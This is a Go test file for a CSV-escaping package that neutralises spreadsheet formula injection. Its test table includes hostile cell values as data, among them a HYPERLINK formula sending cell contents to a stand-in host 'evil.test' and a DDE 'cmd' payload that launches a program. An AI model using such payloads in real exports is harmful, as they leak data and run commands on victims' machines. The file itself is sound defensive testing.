package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestCell(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"a=b", "a=b"},
		{"2026-01-01", "2026-01-01"},
		{"Zoé, \"quote\"", "Zoé, \"quote\""},
		{"=HYPERLINK(\"http://evil.test?\"&A1,\"x\")", "'=HYPERLINK(\"http://evil.test?\"&A1,\"x\")"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"+33 1 23 45 67 89", "'+33 1 23 45 67 89"},
		{"-2+3", "'-2+3"},
		{"\t=cmd|' /C calc'!A0", "'\t=cmd|' /C calc'!A0"},
		{"\r=1+1", "'\r=1+1"},
		{"\n=1+1", "'\n=1+1"},
		{"＝1+1", "'＝1+1"},
		{"＠SUM(A1)", "'＠SUM(A1)"},
		{"'already text", "'already text"},
		{"'=1+1", "''=1+1"}, // so that Unescape gives it back exactly
		{"''-3", "'''-3"},
		{"'", "'"},
	} {
		got := Cell(c.in)
		if got != c.want {
			t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
		}
		if back := Unescape(got); back != c.in {
			t.Errorf("Unescape(Cell(%q)) = %q", c.in, back)
		}
	}
	// Text nobody escaped stays as it is.
	for _, s := range []string{"'plain", "'", "''", "plain"} {
		if Unescape(s) != s {
			t.Errorf("Unescape(%q) = %q", s, Unescape(s))
		}
	}
}

func TestWriter(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	w := NewWriter(&buf)
	in := [][]string{{"title", "note"}, {"=1+1", "a, \"b\"\nc"}, {"-x", "@y"}}
	if err := w.WriteAll(in); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"title", "note"}, {"'=1+1", "a, \"b\"\nc"}, {"'-x", "'@y"}}
	for i := range want {
		for j := range want[i] {
			if rows[i][j] != want[i][j] {
				t.Errorf("row %d col %d = %q, want %q", i, j, rows[i][j], want[i][j])
			}
		}
	}
	if in[1][0] != "=1+1" {
		t.Error("Write changed the caller's record")
	}
}
